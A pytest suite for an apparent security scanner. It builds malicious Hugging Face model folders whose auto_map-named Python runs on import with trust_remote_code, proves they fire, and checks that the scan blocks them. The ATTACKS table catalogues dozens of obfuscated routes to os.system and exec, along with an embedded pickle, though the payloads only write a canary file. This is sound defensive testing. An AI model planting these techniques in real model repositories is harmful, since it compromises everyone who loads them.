"""Adversarial suite, class 5 of issue 12: remote code, the Python that
`from_pretrained(folder, trust_remote_code=True)` imports and runs.

Each sample is a model folder (config.json and/or tokenizer_config.json naming a module through
`auto_map`, plus the Python files) whose code creates a canary file when transformers imports it.
All samples are proved live together in one child process with the real loaders (AutoConfig,
AutoTokenizer with the legacy list form, AutoModel), offline, with a throw-away HF_HOME; then each
folder must be blocked by the default scan: the folder at >= high, and the code findings alone
(not only the `auto_map` entry) at critical where the code reaches os, subprocess or exec by a
spelling other than the plain one. Benign remote-code folders and a sample of transformers' own
modeling files stay free of high code findings.
"""

from __future__ import annotations

import glob
import importlib.util
import json
import random
import sysconfig
import textwrap
from dataclasses import dataclass
from pathlib import Path

import pytest

from adversarial.live import (
    assert_blocked,
    assert_clean,
    canary_code,
    canary_shell,
    describe,
    run_snippet,
)
from airlock.findings import Finding, Severity
from airlock.scan.analyzers.python_code import analyze

CRITICAL, HIGH = Severity.CRITICAL, Severity.HIGH
# Rules of findings about the code itself (not the config entry that names it).
CODE_RULES = frozenset(
    {"AIR702", "AIR703", "AIR705", "AIR706", "AIR707", "AIR708", "AIR713", "AIR715", "AIR716",
     "AIR717"}
)  # fmt: skip

# Payloads: __SHELL__ is the canary shell command, __CODE__ Python that writes the canary (both
# as literals). Each is the module-level code of the module transformers imports.
ATTACKS: dict[str, tuple[str, Severity]] = {
    "plain os.system": ("import os\nos.system(__SHELL__)", HIGH),
    "module alias": ("import os as o\no.system(__SHELL__)", CRITICAL),
    "from-import alias": ("from os import system as s\ns(__SHELL__)", CRITICAL),
    "assignment alias": ("import os\nf = os.system\nf(__SHELL__)", CRITICAL),
    "tuple assignment alias": ("import os\nf, g = os.system, len\nf(__SHELL__)", CRITICAL),
    "walrus alias": ("import os\n(f := os.system)(__SHELL__)", CRITICAL),
    "star import": ("from subprocess import *\ncall(__SHELL__, shell=True)", CRITICAL),
    "star import of os": ("from os import *\nsystem(__SHELL__)", CRITICAL),
    "re-export torch.os": ("import torch\ntorch.os.system(__SHELL__)", CRITICAL),
    "re-export shutil.os": ("import shutil\nshutil.os.system(__SHELL__)", CRITICAL),
    "os.__dict__ concat": ("import os\nos.__dict__['sys' + 'tem'](__SHELL__)", CRITICAL),
    "os.__dict__.get": ("import os\nos.__dict__.get('system')(__SHELL__)", CRITICAL),
    "getattr concat": ("import os\ngetattr(os, 'sys' + 'tem')(__SHELL__)", CRITICAL),
    "getattr variable": (
        "import os\nname = 'sys'\nname += 'tem'\ngetattr(os, name)(__SHELL__)",
        CRITICAL,
    ),
    "getattr __import__ computed": (
        "m = 'o' + 's'\ngetattr(__import__(m), 'sys' + 'tem')(__SHELL__)",
        CRITICAL,
    ),
    "vars(os)": ("import os\nvars(os)['system'](__SHELL__)", CRITICAL),
    "vars(os) computed": (
        "import os\nk = ''.join(['sys', 'tem'])\nvars(os)[k](__SHELL__)",
        CRITICAL,
    ),
    "globals builtins exec": ("globals()['__builtins__']['exec'](__CODE__)", CRITICAL),
    "globals alias": ("g = globals()\ng['__builtins__']['ex' + 'ec'](__CODE__)", CRITICAL),
    "builtins.__dict__": ("import builtins\nbuiltins.__dict__['ex' + 'ec'](__CODE__)", CRITICAL),
    "getattr builtins computed": (
        "import builtins\nn = 'x' + 'ec'\ngetattr(builtins, 'e' + n)(__CODE__)",
        CRITICAL,
    ),
    "import_module variable": (
        "import importlib\nname = chr(111) + chr(115)\n"
        "importlib.import_module(name).system(__SHELL__)",
        CRITICAL,
    ),
    "__import__ reversed": ("n = 'so'[::-1]\n__import__(n).system(__SHELL__)", CRITICAL),
    "importlib.__import__": (
        "import importlib\nimportlib.__import__('os').system(__SHELL__)",
        CRITICAL,
    ),
    "sys.modules constant": ("import sys, os\nsys.modules['os'].system(__SHELL__)", CRITICAL),
    "sys.modules computed": (
        "import sys, os\nkey = 'o' + 's'\nsys.modules[key].system(__SHELL__)",
        CRITICAL,
    ),
    "operator.attrgetter": (
        "import operator, os\noperator.attrgetter('sys' + 'tem')(os)(__SHELL__)",
        CRITICAL,
    ),
    "operator.methodcaller": (
        "import operator, os\noperator.methodcaller('system', __SHELL__)(os)",
        CRITICAL,
    ),
    "str.format name": ("import os\ngetattr(os, '{}{}'.format('sys', 'tem'))(__SHELL__)", CRITICAL),
    "percent format name": ("import os\ngetattr(os, '%s%s' % ('sys', 'tem'))(__SHELL__)", CRITICAL),
    "f-string name": ("import os\na = 'sys'\ngetattr(os, f'{a}tem')(__SHELL__)", CRITICAL),
    "chr name": (
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))(__SHELL__)",
        CRITICAL,
    ),
    "bytes.decode name": ("import os\ngetattr(os, b'system'.decode())(__SHELL__)", CRITICAL),
    "base64 name": (
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())(__SHELL__)",
        CRITICAL,
    ),
    "rot13 name": (
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))(__SHELL__)",
        CRITICAL,
    ),
    "reversed name": ("import os\ngetattr(os, 'metsys'[::-1])(__SHELL__)", CRITICAL),
    "exec compile": ("exec(compile(__CODE__, 'm', 'exec'))", CRITICAL),
    "exec base64": (
        "import base64\nexec(base64.b64decode(__B64__))",
        CRITICAL,
    ),
    "eval of built text": (
        "eval('__imp' + 'ort__(\"os\").system(' + repr(__SHELL__) + ')')",
        CRITICAL,
    ),
    "type and lambda": (
        "import os\nT = type('T', (), {'go': staticmethod(lambda: os.system(__SHELL__))})\nT.go()",
        HIGH,
    ),
    "setattr on a module": (
        "import os, string\nsetattr(string, 'run_it', os.system)\nstring.run_it(__SHELL__)",
        HIGH,
    ),
    "setattr on os": (
        "import os\nsetattr(os, 'x', os.system)\nos.x(__SHELL__)",
        CRITICAL,
    ),
    "module handed to a lambda": ("import os\n(lambda m: m.system(__SHELL__))(os)", CRITICAL),
    "module in a list": ("import os\nfor m in [os]:\n    m.system(__SHELL__)", CRITICAL),
    "frame builtins": ("import sys\nsys._getframe().f_builtins['exec'](__CODE__)", CRITICAL),
    "function __globals__": (
        "import os\ndef f(): pass\nf.__globals__['os'].system(__SHELL__)",
        CRITICAL,
    ),
    "__subclasses__ escape": (
        "w = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "
        "'catch_warnings'][0]\nw()._module.__builtins__['exec'](__CODE__)",
        CRITICAL,
    ),
    "class-level code": (
        "import subprocess\nclass Setup:\n    done = subprocess.run(__SHELL__, shell=True)",
        HIGH,
    ),
    "decorator": (
        "import os\ndef deco(f):\n    os.popen(__SHELL__).read()\n    return f\n"
        "@deco\ndef hook():\n    pass",
        HIGH,
    ),
    "__init_subclass__": (
        "import subprocess\nclass Base:\n    def __init_subclass__(cls, **kw):\n"
        "        subprocess.check_call(__SHELL__, shell=True)\nclass Child(Base):\n    pass",
        HIGH,
    ),
    "metaclass": (
        "import os as _o\nclass Meta(type):\n    def __new__(m, *a):\n"
        "        _o.system(__SHELL__)\n        return super().__new__(m, *a)\n"
        "class Thing(metaclass=Meta):\n    pass",
        CRITICAL,
    ),
    "alias in a class body": (
        "import os\nclass Holder:\n    m = os\nHolder.m.system(__SHELL__)",
        CRITICAL,
    ),
    "__call__ of exec": ("exec.__call__(__CODE__)", CRITICAL),
    "__call__ of os.system": ("import os\nos.system.__call__(__SHELL__)", CRITICAL),
    "map over exec": ("list(map(exec, [__CODE__]))", HIGH),
    "module __getattribute__": ("import os\nos.__getattribute__('system')(__SHELL__)", CRITICAL),
    "object.__getattribute__": (
        "import os\nobject.__getattribute__(os, 'system')(__SHELL__)",
        CRITICAL,
    ),
    "module as a default argument": (
        "def f(m=__import__('os')):\n    m.system(__SHELL__)\nf()",
        CRITICAL,
    ),
    "import_module alias": (
        "from importlib import import_module as im\nim('os').system(__SHELL__)",
        CRITICAL,
    ),
    "module returned by a function": (
        "import os\ndef g():\n    return os\ng().system(__SHELL__)",
        CRITICAL,
    ),
    "function kept in a dict": ("import os\nd = {'r': os.system}\nd['r'](__SHELL__)", HIGH),
    "alias rebound in a dead branch": (
        "import os, json\nm = os\nif False:\n    m = json\nm.system(__SHELL__)",
        CRITICAL,
    ),
    "embedded pickle": (
        "import pickle\npickle.loads(b'cposix\\nsystem\\n(V' + __SHELL__.encode() + b'\\ntR.')",
        CRITICAL,
    ),
    "attribute stored on os": ("import os\nos.run_it = os.system\nos.run_it(__SHELL__)", HIGH),
    "importlib loader exec_module": (
        "import importlib.util\nspec = importlib.util.find_spec('subprocess')\n"
        "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n"
        "m.run(__SHELL__, shell=True)",
        HIGH,
    ),
    "sys.modules through os.sys": (
        "import os\nos.sys.modules['o' + 's'].system(__SHELL__)",
        CRITICAL,
    ),
    "lambda __globals__": (
        "(lambda: 0).__globals__['__builtins__']['exec'](__CODE__)",
        CRITICAL,
    ),
    "exec alias": ("e = exec\ne(__CODE__)", CRITICAL),
    "posix": ("import posix\nposix.system(__SHELL__)", HIGH),
    "spawn": ("import os, shlex\nos.spawnvp(os.P_WAIT, 'sh', ['sh', '-c', __SHELL__])", CRITICAL),
    "timeit runs code": ("import timeit\ntimeit.timeit(__CODE__, number=1)", HIGH),
    "code.InteractiveInterpreter": (
        "import code\ncode.InteractiveInterpreter().runsource(__CODE__, 'm', 'exec')",
        HIGH,
    ),
    "writes outside the folder": ("exec(__CODE__)", HIGH),
    "open for writing": ("open(__PATH__, 'w').write('fired')", HIGH),
}

HEADER = "from transformers import PretrainedConfig\n"
CONFIG_CLASS = "\n\nclass {cls}(PretrainedConfig):\n    model_type = {model_type!r}\n"
TOKENIZER_CLASS = (
    "\n\nfrom transformers import PreTrainedTokenizer\n\n\n"
    "class {cls}(PreTrainedTokenizer):\n    pass\n"
)


@dataclass(frozen=True)
class Sample:
    name: str
    folder: Path
    canary: Path
    loader: str  # the transformers Auto class that loads it
    expected: Severity


def _slug(name: str) -> str:
    return "".join(c if c.isalnum() else "_" for c in name).strip("_").lower()


def _payload(source: str, canary: Path) -> str:
    import base64

    code = canary_code(canary)
    return (
        source.replace("__SHELL__", repr(canary_shell(canary)))
        .replace("__CODE__", repr(code))
        .replace("__B64__", repr(base64.b64encode(code.encode()).decode()))
        .replace("__PATH__", repr(str(canary)))
    )


def _write(folder: Path, files: dict[str, str | dict[str, object]]) -> None:
    folder.mkdir(parents=True)
    for name, content in files.items():
        text = json.dumps(content, indent=2) if isinstance(content, dict) else content
        (folder / name).write_text(text)


def _config_sample(root: Path, name: str, source: str, expected: Severity) -> Sample:
    """config.json's auto_map.AutoConfig names configuration_<slug>.py, which runs the payload."""
    slug = _slug(name)
    folder, canary = root / f"cfg_{slug}", root / "canaries" / f"cfg_{slug}"
    module = f"configuration_{slug}"
    cls = f"C{slug.title().replace('_', '')}Config"
    code = HEADER + _payload(source, canary) + CONFIG_CLASS.format(cls=cls, model_type=slug)
    config = {"model_type": slug, "auto_map": {"AutoConfig": f"{module}.{cls}"}}
    _write(folder, {"config.json": config, f"{module}.py": code})
    return Sample(name, folder, canary, "AutoConfig", expected)


def _variants(root: Path) -> list[Sample]:
    """The same payload reached the other ways transformers imports code: the legacy list form of
    the tokenizer's auto_map, a relative import of a second module, and AutoModel."""
    shell_source, _ = ATTACKS["getattr concat"]
    samples = []

    folder, canary = root / "tok_legacy_list", root / "canaries" / "tok_legacy_list"
    code = _payload(shell_source, canary) + TOKENIZER_CLASS.format(cls="LegacyTokenizer")
    tokenizer_config = {"auto_map": ["tokenization_legacy.LegacyTokenizer", None]}
    _write(folder, {"tokenizer_config.json": tokenizer_config, "tokenization_legacy.py": code})
    samples.append(Sample("legacy list auto_map", folder, canary, "AutoTokenizer", CRITICAL))

    folder, canary = root / "tok_pair", root / "canaries" / "tok_pair"
    code = _payload(shell_source, canary) + TOKENIZER_CLASS.format(cls="PairTokenizer")
    tokenizer_config = {"auto_map": {"AutoTokenizer": [None, "tokenization_pair.PairTokenizer"]}}
    _write(folder, {"tokenizer_config.json": tokenizer_config, "tokenization_pair.py": code})
    samples.append(Sample("tokenizer pair, slow null", folder, canary, "AutoTokenizer", CRITICAL))

    folder, canary = root / "relative_import", root / "canaries" / "relative_import"
    entry = (
        HEADER
        + "from .helpers_rel import VALUE\n"
        + CONFIG_CLASS.format(cls="RelConfig", model_type="relimport")
    )
    helper = _payload("import os\nos.__dict__['sys' + 'tem'](__SHELL__)\nVALUE = 1", canary)
    config = {"model_type": "relimport", "auto_map": {"AutoConfig": "configuration_rel.RelConfig"}}
    _write(folder, {"config.json": config, "configuration_rel.py": entry, "helpers_rel.py": helper})
    samples.append(Sample("relative import of a second module", folder, canary, "AutoConfig",
                          CRITICAL))  # fmt: skip

    folder, canary = root / "auto_model", root / "canaries" / "auto_model"
    configuration = HEADER + CONFIG_CLASS.format(cls="AmConfig", model_type="automodel")
    modeling = _payload("import importlib\nm = 'o' + 's'\nimportlib.import_module(m)"
                        ".system(__SHELL__)", canary) + (
        "\n\nfrom transformers import PreTrainedModel\n"
        "from .configuration_am import AmConfig\n\n\n"
        "class AmModel(PreTrainedModel):\n    config_class = AmConfig\n"
    )  # fmt: skip
    config = {
        "model_type": "automodel",
        "auto_map": {"AutoConfig": "configuration_am.AmConfig", "AutoModel": "modeling_am.AmModel"},
    }
    _write(folder, {"config.json": config, "configuration_am.py": configuration,
                    "modeling_am.py": modeling})  # fmt: skip
    samples.append(Sample("AutoModel", folder, canary, "AutoModel", CRITICAL))

    # Processor-side configs: preprocessor_config.json (AutoFeatureExtractor) and
    # processor_config.json (AutoProcessor) name their own modules.
    for config_name, auto, base, slug in (
        ("preprocessor_config.json", "AutoFeatureExtractor", "FeatureExtractionMixin", "feat"),
        ("processor_config.json", "AutoProcessor", "ProcessorMixin", "proc"),
    ):
        folder, canary = root / f"{slug}_config", root / "canaries" / f"{slug}_config"
        code = _payload("import sys\nsys.modules['o' + 's'].system(__SHELL__)", canary) + (
            f"\n\nfrom transformers import {base}\n\n\nclass X{slug}({base}):\n    pass\n"
        )
        _write(
            folder, {config_name: {"auto_map": {auto: f"{slug}_x.X{slug}"}}, f"{slug}_x.py": code}
        )
        samples.append(Sample(f"{auto} in {config_name}", folder, canary, auto, CRITICAL))

    # custom_pipelines in config.json: pipeline(task, model=folder) imports the `impl` module.
    folder, canary = root / "custom_pipeline", root / "canaries" / "custom_pipeline"
    code = _payload("import os\nf = os.popen\nf(__SHELL__).read()", canary) + (
        "\n\nfrom transformers import Pipeline\n\n\nclass EvilPipeline(Pipeline):\n    pass\n"
    )
    config = {
        "model_type": "bert", "vocab_size": 10, "hidden_size": 8, "num_hidden_layers": 1,
        "num_attention_heads": 1, "intermediate_size": 8,
        "custom_pipelines": {"evil-task": {"impl": "pipe_evil.EvilPipeline", "pt": ["AutoModel"]}},
    }  # fmt: skip
    _write(folder, {"config.json": config, "pipe_evil.py": code})
    samples.append(Sample("custom_pipelines", folder, canary, "pipeline:evil-task", CRITICAL))
    return samples


# Loads every folder in a fresh interpreter, offline, with its own modules cache.
LOAD_ALL = """
import json, os
home = os.path.join(os.path.dirname(path), "hf_home")  # inside the test's own tmp folder
os.environ["HF_HOME"] = home
os.environ["HF_MODULES_CACHE"] = os.path.join(home, "modules")
import transformers
for folder, loader in json.load(open(path)):
    try:
        if loader.startswith("pipeline:"):
            task = loader.partition(":")[2]
            transformers.pipeline(task, model=folder, trust_remote_code=True)
        else:
            getattr(transformers, loader).from_pretrained(folder, trust_remote_code=True)
    except Exception as exc:  # the payload has run by then; later failures do not matter
        print(folder, type(exc).__name__, str(exc)[:200])
"""


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> list[Sample]:
    root = tmp_path_factory.mktemp("remote")
    (root / "canaries").mkdir()
    built = [_config_sample(root, name, *ATTACKS[name]) for name in ATTACKS]
    built += _variants(root)
    if importlib.util.find_spec("transformers") is None:
        return built  # the scans still run; only the live proof needs transformers
    manifest = root / "manifest.json"
    manifest.write_text(json.dumps([[str(s.folder), s.loader] for s in built]))
    output = run_snippet(LOAD_ALL, manifest, timeout=300)
    dead = [s.name for s in built if not s.canary.exists()]
    assert not dead, f"samples that did not fire under transformers: {dead}\n{output[-3000:]}"
    for sample in built:
        sample.canary.unlink()
    return built


SAMPLE_NAMES = [*ATTACKS, "legacy list auto_map", "tokenizer pair, slow null",
                "relative import of a second module", "AutoModel",
                "AutoFeatureExtractor in preprocessor_config.json",
                "AutoProcessor in processor_config.json", "custom_pipelines"]  # fmt: skip


def _code_findings(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.rule_id in CODE_RULES]


@pytest.mark.parametrize("name", SAMPLE_NAMES)
def test_remote_code_is_blocked(samples: list[Sample], name: str) -> None:
    (sample,) = [s for s in samples if s.name == name]
    findings = assert_blocked(sample.folder, sample.canary, at_least=HIGH)
    # The code itself is judged, not only the config entry that names it.
    code = _code_findings(findings)
    worst = max((f.severity for f in code), default=Severity.INFO)
    assert worst >= sample.expected, f"{name}: code findings below {sample.expected.label}:\n" + (
        describe(findings)
    )


def test_suite_counts(samples: list[Sample]) -> None:
    assert len(samples) == len(SAMPLE_NAMES) >= 70


# Configs whose code is not in the folder: it cannot be proved live offline (it is fetched from
# the Hub), and the scan cannot read it, so the config entry itself must be high.
UNSEEN: dict[str, tuple[str, dict[str, object], str]] = {
    "remote repo, legacy list": (
        "tokenizer_config.json",
        {"auto_map": ["attacker/repo--tokenization_x.XTokenizer", None]},
        "AIR712",
    ),
    "remote repo, tokenizer pair": (
        "tokenizer_config.json",
        {"auto_map": {"AutoTokenizer": [None, "attacker/repo--tokenization_x.XTokenizerFast"]}},
        "AIR712",
    ),
    "remote repo, AutoConfig": (
        "config.json",
        {"model_type": "x", "auto_map": {"AutoConfig": "attacker/repo--configuration_x.XConfig"}},
        "AIR712",
    ),
    "remote repo, image processor file form": (
        "preprocessor_config.json",
        {"auto_map": {"AutoImageProcessor": {"torchvision": "attacker/repo--proc/x.py::XProc"}}},
        "AIR712",
    ),
    "missing module, legacy list": (
        "tokenizer_config.json",
        {"auto_map": ["tokenization_gone.GoneTokenizer", None]},
        "AIR713",
    ),
    "missing module, custom pipeline": (
        "config.json",
        {"model_type": "bert", "custom_pipelines": {"t": {"impl": "pipe_gone.P", "pt": []}}},
        "AIR713",
    ),
    "missing relative import": ("configuration_x.py", {}, "AIR713"),
}


@pytest.mark.parametrize("name", list(UNSEEN))
def test_code_not_in_the_folder_is_blocked(tmp_path: Path, name: str) -> None:
    file_name, document, rule = UNSEEN[name]
    folder = tmp_path / "model"
    if file_name.endswith(".py"):
        _write(folder, {file_name: "from .modeling_gone import X\n"})
    else:
        _write(folder, {file_name: document})
    assert_blocked(folder, tmp_path / "no-canary", at_least=HIGH, rule=rule)


# Benign remote code: a custom config, a tokenizer and a model, doing nothing harmful.
BENIGN_CONFIG = """
from transformers import PretrainedConfig


class TinyRemoteConfig(PretrainedConfig):
    model_type = "tinyremote"

    def __init__(self, hidden_size: int = 8, activation: str = "gelu", **kwargs):
        self.hidden_size = hidden_size
        self.activation = activation
        super().__init__(**kwargs)
"""
BENIGN_MODELING = """
import math
import os
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_tinyremote import TinyRemoteConfig

logger = logging.get_logger(__name__)
ATTENTION_BACKEND = os.environ.get("TINY_ATTENTION", "eager")


class TinyRemoteModel(PreTrainedModel):
    config_class = TinyRemoteConfig

    def __init__(self, config: TinyRemoteConfig):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.act = getattr(nn.functional, config.activation)
        self.scale = 1 / math.sqrt(config.hidden_size)
        self.post_init()

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        if os.path.exists(os.path.join(os.path.dirname(__file__), "extra.json")):
            logger.info("extra settings found")
        return self.act(self.proj(x)) * self.scale
"""
BENIGN_TOKENIZER = """
import json
import os
import re

from transformers import PreTrainedTokenizer


class TinyRemoteTokenizer(PreTrainedTokenizer):
    vocab_files_names = {"vocab_file": "vocab.json"}

    def __init__(self, vocab_file=None, **kwargs):
        self.vocab = {}
        if vocab_file and os.path.isfile(vocab_file):
            with open(vocab_file, encoding="utf-8") as handle:
                self.vocab = json.load(handle)
        super().__init__(**kwargs)

    @property
    def vocab_size(self):
        return len(self.vocab)

    def get_vocab(self):
        return dict(self.vocab)

    def _tokenize(self, text):
        return re.findall(r"\\w+|\\S", text)

    def _convert_token_to_id(self, token):
        return self.vocab.get(token, 0)

    def _convert_id_to_token(self, index):
        return {v: k for k, v in self.vocab.items()}.get(index, "")

    def save_vocabulary(self, save_directory, filename_prefix=None):
        path = os.path.join(save_directory, (filename_prefix or "") + "vocab.json")
        with open(path, "w", encoding="utf-8") as handle:
            json.dump(self.vocab, handle)
        return (path,)
"""


USE_BENIGN = """
import os
home = os.path.join(os.path.dirname(path), "hf_home")  # inside the test's own tmp folder
os.environ["HF_HOME"] = home
os.environ["HF_MODULES_CACHE"] = os.path.join(home, "modules")
import torch
from transformers import AutoConfig, AutoModel, AutoTokenizer
config = AutoConfig.from_pretrained(path, trust_remote_code=True)
tokenizer = AutoTokenizer.from_pretrained(path, trust_remote_code=True)
model = AutoModel.from_config(config, trust_remote_code=True)
assert model(torch.ones(1, 8)).shape == (1, 8) and tokenizer.vocab_size == 2
print("ok")
"""


def test_benign_remote_code_folder(tmp_path: Path) -> None:
    folder = tmp_path / "tinyremote"
    auto_map = {
        "AutoConfig": "configuration_tinyremote.TinyRemoteConfig",
        "AutoModel": "modeling_tinyremote.TinyRemoteModel",
    }
    _write(folder, {
        "config.json": {"model_type": "tinyremote", "hidden_size": 8, "auto_map": auto_map},
        "tokenizer_config.json": {
            "auto_map": {"AutoTokenizer": ["tokenization_tinyremote.TinyRemoteTokenizer", None]}
        },
        "vocab.json": {"a": 1, "b": 2},
        "configuration_tinyremote.py": BENIGN_CONFIG,
        "modeling_tinyremote.py": BENIGN_MODELING,
        "tokenization_tinyremote.py": BENIGN_TOKENIZER,
    })  # fmt: skip
    if importlib.util.find_spec("transformers") is not None:
        # It is real, working remote code: each class loads and the model runs.
        output = run_snippet(USE_BENIGN, folder, timeout=300)
        assert output.strip().endswith("ok"), output[-2000:]
    findings = assert_clean_code(folder)
    # Custom code present is itself reported: the auto_map entries stay high.
    assert {f.rule_id for f in findings if f.severity >= HIGH} == {"AIR711"}


def assert_clean_code(folder: Path) -> list[Finding]:
    from adversarial.live import scan

    findings = scan(folder)
    loud = [f for f in _code_findings(findings) if f.severity >= HIGH]
    assert not loud, describe(loud)
    return findings


def _transformers_files(pattern: str) -> list[str]:
    site = sysconfig.get_paths()["purelib"]
    return sorted(glob.glob(f"{site}/transformers/models/*/{pattern}"))


def test_transformers_modeling_corpus_stays_below_high() -> None:
    """200 of transformers' own modeling files and 100 configuration/tokenization files: the
    code that remote code copies. None may have a high code finding."""
    pytest.importorskip("transformers")
    rng = random.Random(12)
    modeling = _transformers_files("modeling_*.py")
    others = [
        path
        for pattern in ("configuration_*.py", "tokenization_*.py")
        for path in _transformers_files(pattern)
        # auto/ is transformers' own dynamic loader (import_module of computed names): not
        # model code, and rightly high.
        if "/models/auto/" not in path
    ]
    chosen = rng.sample(modeling, min(200, len(modeling))) + rng.sample(
        others, min(100, len(others))
    )
    assert len(chosen) >= 250
    loud = {}
    for path in chosen:
        issues = [i for i in analyze(Path(path).read_bytes()).issues if i.severity >= HIGH]
        if issues:
            loud[path] = issues
    assert not loud, loud


# Idioms that real remote code uses (availability checks, vocab copies, computed activations,
# environment for distributed ranks, lazy module attributes): none of them is high.
BENIGN_IDIOMS = """
import importlib.metadata
import importlib.util
import inspect
import math
import os
import shutil
import sys
import warnings

import torch
import torch.nn.functional as F
from torch import nn
from transformers.utils import logging

logger = logging.get_logger(__name__)
FLASH = importlib.util.find_spec("flash_attn") is not None
TORCH_VERSION = importlib.metadata.version("torch")
USES_JIEBA = "rjieba" in sys.modules


class TinyBlock(nn.Module):
    def __init__(self, config):
        super().__init__()
        for key, value in config.to_dict().items():
            setattr(self, key, value)
        self.act = getattr(F, config.hidden_act)
        self.dtype_ = getattr(torch, config.torch_dtype, torch.float32)
        self.params = inspect.signature(self.forward).parameters
        self.scale = math.sqrt(config.hidden_size)
        self.rank = int(os.environ.get("RANK", 0))
        warnings.warn("experimental")

    def forward(self, x):
        return self.act(x) * self.scale


def save_vocabulary(vocab_file, save_directory, prefix=None):
    os.makedirs(save_directory, exist_ok=True)
    out = os.path.join(save_directory, (prefix or "") + "tokenizer.model")
    if os.path.abspath(vocab_file) != os.path.abspath(out):
        shutil.copyfile(vocab_file, out)
    return (out,)


setattr(sys.modules[__name__], "VERSION", 1)
"""


@pytest.mark.parametrize(
    ("name", "source"),
    [("configuration_plain.py", BENIGN_CONFIG), ("modeling_idioms.py", BENIGN_IDIOMS)],
)
def test_single_benign_file_is_clean(tmp_path: Path, name: str, source: str) -> None:
    path = tmp_path / name
    path.write_text(textwrap.dedent(source))
    assert_clean(path, below=Severity.MEDIUM)
